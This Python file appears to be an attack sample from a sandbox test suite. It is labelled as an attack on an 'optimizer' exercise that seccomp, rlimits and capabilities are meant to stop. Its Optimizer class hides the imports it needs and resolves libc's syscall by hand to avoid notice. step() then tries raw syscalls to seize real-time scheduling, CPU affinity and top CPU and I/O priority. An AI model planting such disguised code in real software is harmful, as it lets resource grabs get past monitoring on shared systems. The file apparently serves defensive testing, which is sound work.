"""Attack: takes all processors, a real-time scheduler, the best priority and the disk for itself.

Exercise: optimizer
Earns: 0
Stopped by: seccomp, rlimits, capabilities
Levels: full, container
"""

import random
import struct

import numpy as np

os = getattr(random, bytes((95, 111, 115)).decode())
ctypes = getattr(np, "".join(("ctypes", "lib"))).ctypes


def function_of_c(name):
    """Find *name* in the C library's own file: asking the loader for it would be noticed."""
    with open("/proc/self/maps") as file:
        row = next(line.split() for line in file if line.rstrip().endswith("/libc.so.6"))
    with open(row[-1], "rb") as file:
        data = file.read()
    (table,), (width, count) = struct.unpack_from("<Q", data, 40), struct.unpack_from("<HH", data, 58)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, table + i * width) for i in range(count)]
    symbols = next(s for s in sections if s[1] == 11)
    names = sections[symbols[6]][4]
    for at in range(symbols[4], symbols[4] + symbols[5], 24):
        start, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, at)
        if data.startswith(name + b"\0", names + start):
            address = int(row[0].split("-")[0], 16) + value
            return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7, use_errno=True)(address)


syscall = function_of_c(b"syscall")


def call(*numbers):
    return syscall(*numbers, *[0] * (7 - len(numbers)))

numbers = (ctypes.c_long * 8)(255, 99)


def push():
    place = ctypes.cast(numbers, ctypes.c_void_p).value
    for name, *rest in (
        ("sched_setscheduler", 144, 0, 1, place),
        ("sched_setparam", 142, 0, place),
        ("sched_setattr", 314, 0, place, 0),
        ("sched_setaffinity", 203, 0, 8, place),
        ("setpriority", 141, 0, 0, -20),
        ("ioprio_set", 251, 1, 0, 1 << 13),
    ):
        if call(*rest) >= 0:
            print("BREACH", name)


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        push()

    def zero_grad(self):
        pass
